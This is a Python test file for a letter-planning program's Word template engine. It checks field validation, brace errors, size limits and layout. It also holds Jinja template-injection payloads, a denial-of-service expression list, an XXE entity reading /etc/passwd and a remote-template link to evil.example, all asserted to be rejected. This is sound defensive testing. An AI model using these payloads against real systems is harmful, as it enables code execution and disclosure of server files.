"""Templates: what they may name, what they must, what they cannot do; the shipped files are those that the program makes."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from pathlib import Path

import docx
import pytest

from planner.errors import InputRejectedError
from planner.language import Language
from planner.shipped import find_shipped_folder
from planner.writing.letters.contents.content import AccountRow, LetterKind
from planner.writing.letters.contents.plan_facts import PlanFacts
from planner.writing.letters.contents.rep_content import build_rep_letter
from planner.writing.letters.templates.docx_template import fill_template, open_template
from planner.writing.letters.templates.template_fields import list_fields
from tests.word_templates.make_templates import make_all
from tests.written_plan_builder import read_named_plan, text_of_docx

REQUIRED = "{{ addressee }} {{ seat }} {{ target }} {{ plan_hash }} {% for q in quarters %}{{ q.target }}{% endfor %}"


def _write(folder: Path, *paragraphs: str, header: str = "") -> Path:
    document = docx.Document()
    for words in paragraphs:
        document.add_paragraph(words)
    document.sections[0].header.paragraphs[0].text = header
    path = folder / "own.docx"
    document.save(str(path))
    return path


def _letter():
    facts = PlanFacts(read_named_plan())
    return build_rep_letter(facts, facts.written.plan.targets.seats[0], Language.ENGLISH)


def test_a_template_of_their_own_is_filled(tmp_path):
    path = _write(
        tmp_path,
        REQUIRED,
        "{% for p in products %}{{ loop.index }} {{ p.name|upper }}{% endfor %}",
        header="{{ year }}",
    )
    text = text_of_docx(fill_template(open_template(path, LetterKind.REP), _letter(), None, None))
    assert _letter().says.target in text
    assert "1 CORE" in text


@pytest.mark.parametrize(
    ("paragraph", "header", "message"),
    [
        ("{{ adressee }}", "", "ERROR own.docx: unknown field 'adressee'. Did you mean 'addressee'?"),
        ("", "{{ salary }}", "ERROR own.docx: unknown field 'salary'."),
        ("{% for p in products %}{{ p.amount }}{% endfor %}", "", "ERROR own.docx: unknown field 'amount'."),
        ("{% if false %}{{ nobody }}{% endif %}", "", "ERROR own.docx: unknown field 'nobody'."),
        ("{% for q in quarters %}{{ q.first.targe }}{% endfor %}", "", "unknown field 'targe'. Did you mean 'target'?"),
    ],
)
def test_an_unknown_field_is_named_with_its_template(tmp_path, paragraph, header, message):
    with pytest.raises(InputRejectedError) as caught:
        open_template(_write(tmp_path, REQUIRED, paragraph, header=header), LetterKind.REP)
    assert any(message in f.message() for f in caught.value.findings)
    assert len(caught.value.findings) == 1


@pytest.mark.parametrize(
    ("paragraph", "message"),
    [
        (
            "｛｛ name ｝｝",
            "ERROR own.docx: '｛｛ name ｝｝' has braces of a Chinese keyboard, a field stands in two braces of an English keyboard.",
        ),
        ("{｛ name }}", "'{｛ name }}' has braces of a Chinese keyboard"),
        ("｛％ if pay ％｝", "'｛％ if pay ％｝' has braces of a Chinese keyboard"),
        ("Dear { addressee },", "'{ addressee }' has one brace on each side"),
    ],
)
def test_braces_that_would_be_printed_are_named(tmp_path, paragraph, message):
    with pytest.raises(InputRejectedError) as caught:
        open_template(_write(tmp_path, REQUIRED, paragraph), LetterKind.REP)
    assert [message in f.message() for f in caught.value.findings] == [True]
    assert "请写作 {{ name }}。" in caught.value.findings[0].message(Language.CHINESE)


def test_braces_that_are_no_field_are_text(tmp_path):
    words = "A set {a, b}, 《{甲}》 and { company seal }"
    path = _write(tmp_path, REQUIRED, words)
    assert words in text_of_docx(fill_template(open_template(path, LetterKind.REP), _letter(), None, None))


def test_a_missing_field_is_named_with_its_template(tmp_path):
    with pytest.raises(InputRejectedError) as caught:
        open_template(_write(tmp_path, REQUIRED.replace("{{ target }}", "")), LetterKind.REP)
    assert [f.message() for f in caught.value.findings] == [
        "ERROR own.docx: field 'target' is missing, a letter must show it."
    ]


@pytest.mark.parametrize(
    "code",
    [
        "{{ target.__class__.__mro__ }}",
        "{{ ''.__class__ }}",
        "{{ chart._draw.__globals__ }}",
        "{{ chart.tpl }}",
        "{{ (chart|attr('_draw'))() }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}{{ os }}",
        "{{ range(3) }}",
        "{{ lipsum.__globals__ }}",
        "{{ '{0.__class__}'.format(target) }}",
        "{{ products.append(1) }}",
        "{{ target.unknown }}",
        "{% for x in %}",
        "{{ target * 1000000000 }}",
        "{{ 'a' * 10**9 }}",
        "{{ '%1000000000d' % 1 }}",
        "{{ target|center(1000000000) }}",
        "{{ target|replace('0', target) }}",
        "{% set a = target %}{{ a }}",
        "{% macro m() %}{{ m() }}{% endmacro %}",
        "{% for a in quarters recursive %}{{ a.target }}{% endfor %}",
        "{% for a in goals %}{% for b in goals %}{% for c in goals %}x{% endfor %}{% endfor %}{% endfor %}",
    ],
)
def test_a_template_cannot_run_code(tmp_path, code):
    path = _write(tmp_path, REQUIRED, code)
    with pytest.raises(InputRejectedError):
        fill_template(open_template(path, LetterKind.REP), _letter(), b"", None)


def test_what_is_forbidden_is_told_without_what_it_hides(tmp_path):
    assert _refused(_write(tmp_path, REQUIRED, "{{ target * 3 }}")) == [
        "ERROR own.docx: 'mul' is nothing that a template may do, a template names fields, repeats rows and leaves out what there is none of."
    ]


def test_a_template_cannot_grow_without_bound(tmp_path):
    """Two loops over many accounts are allowed; what they render is not, beyond 20 million characters."""
    path = _write(
        tmp_path, REQUIRED, "{% for a in accounts %}{% for b in accounts %}" + 80 * "x" + "{% endfor %}{% endfor %}"
    )
    letter = _letter()
    accounts = tuple(AccountRow(str(i), "", "", "") for i in range(600))
    with pytest.raises(InputRejectedError) as caught:
        fill_template(
            open_template(path, LetterKind.REP),
            replace(letter, says=replace(letter.says, accounts=accounts)),
            b"",
            None,
        )
    assert "the filled letter is too large" in caught.value.findings[0].message()


def test_what_letters_need_is_allowed(tmp_path):
    more = (
        "{% for p in products %}{{ loop.index }}. {{ p.name|upper|truncate(20) }}{% if not loop.last %}, {% endif %}{% endfor %}",
        "{{ name|default('…') if name else 'nobody' }} {{ quarters[0].first.target }} {{ products|length }} {{ team ~ ' / ' ~ seat }}",
    )
    assert fill_template(open_template(_write(tmp_path, REQUIRED, *more), LetterKind.REP), _letter(), None, None)


def _refused(path) -> list[str]:
    with pytest.raises(InputRejectedError) as caught:
        open_template(path, LetterKind.REP)
    return [f.message() for f in caught.value.findings]


def _add_parts(path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)


@pytest.mark.parametrize(
    ("part", "content", "found"),
    [
        ("word/vbaProject.bin", b"x", "it holds macros. Save it as a Word document without macros"),
        ("word/embeddings/pay.xlsx", b"x", "it holds an embedded file: word/embeddings/pay.xlsx."),
        ("word/zeros.xml", bytes(101_000_000), "it is too large: 0 MB, unpacked 10"),
        (
            "word/_rels/settings.xml.rels",
            b'<Relationships><Relationship Id="a" Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
            b"</Relationships>",
            "it is linked to another file: http://evil.example/x.dotm.",
        ),
    ],
)
def test_what_would_go_out_with_every_letter_or_exhaust_the_reader_is_refused(tmp_path, part, content, found):
    path = _write(tmp_path, REQUIRED)
    _add_parts(path, {part: content})
    (message,) = _refused(path)
    assert found in message


def test_a_hyperlink_to_the_outside_is_no_linked_file(tmp_path):
    path = _write(tmp_path, REQUIRED)
    link = b'<Relationship Id="a" Type="http://x/hyperlink" Target="https://intranet.example" TargetMode="External"/>'
    _add_parts(path, {"word/_rels/footnotes.xml.rels": b"<Relationships>" + link + b"</Relationships>"})
    assert open_template(path, LetterKind.REP).name == "own.docx"


def test_what_is_no_word_document_is_refused(tmp_path):
    path = tmp_path / "own.docx"
    for content in (b"", b"PK\x03\x04", b"\xd0\xcf\x11\xe0"):
        path.write_bytes(content)
        assert _refused(path) == ["ERROR own.docx: this is no Word document (.docx)."]


def test_a_document_with_entities_is_refused(tmp_path):
    path = _write(tmp_path, REQUIRED)
    made = io.BytesIO()
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(made, "w") as new:
        for name in old.namelist():
            part = old.read(name)
            if name == "word/document.xml":
                part = part.replace(
                    b"<w:document", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document', 1
                )
            new.writestr(name, part)
    path.write_bytes(made.getvalue())
    with pytest.raises(InputRejectedError) as caught:
        open_template(path, LetterKind.REP)
    assert "entities in word/document.xml" in caught.value.findings[0].message()


def test_the_list_of_fields_is_complete_in_both_languages():
    english, chinese = (list(list_fields(language)) for language in Language)
    assert [f[:2] for f in english] == [f[:2] for f in chinese]
    fields = {f for kind, f, _ in english if kind is LetterKind.REP}
    assert {"target", "quarters[].first.target", "goals[].weight", "chart", "logo", "annex[].name"} <= fields
    assert all(meaning for _, _, meaning in (*english, *chinese))


def test_the_shipped_templates_are_those_that_the_program_makes():
    made = make_all()
    shipped = {p.name: p.read_bytes() for p in find_shipped_folder("templates").glob("*.docx")}
    assert set(made) == set(shipped)
    for name, content in made.items():
        assert text_of_docx(content) == text_of_docx(shipped[name]), name


def test_short_tables_stay_on_one_page_and_long_ones_may_break():
    template = open_template(find_shipped_folder("templates") / "rep_letter_zh.docx", LetterKind.REP)
    letter = _letter()
    (row,) = letter.says.segments[:1]
    long = replace(letter, says=replace(letter.says, segments=(row,) * 13))
    document = docx.Document(io.BytesIO(fill_template(template, long, None, None)))
    kept = {}
    for table in document.tables:
        rows = [[p.paragraph_format.keep_with_next for p in r.cells[0].paragraphs] for r in table.rows]
        kept[table.cell(0, 0).text] = (len(rows), [all(r) for r in rows].count(True), all(rows[-1]))
    assert kept["季度"] == (5, 4, False)
    assert kept["客户细分"] == (14, 3, False)
    # marks of Chinese text are set as Chinese ones
    assert document.styles.element.xpath("//w:lang/@w:eastAsia") == ["zh-CN"]


@pytest.mark.parametrize("language", list(Language))
def test_segments_have_as_much_room_as_the_names_of_accounts(language):
    """``Machinery Large East`` stands on one line beside its account."""
    document = docx.Document(str(find_shipped_folder("templates") / f"rep_letter_{language}.docx"))
    status = next(t for t in document.tables if "{{ a.segment }}" in t._element.xml)
    account, segment, *_ = (column.width for column in status.columns)
    assert account is not None
    assert segment is not None
    assert segment >= account
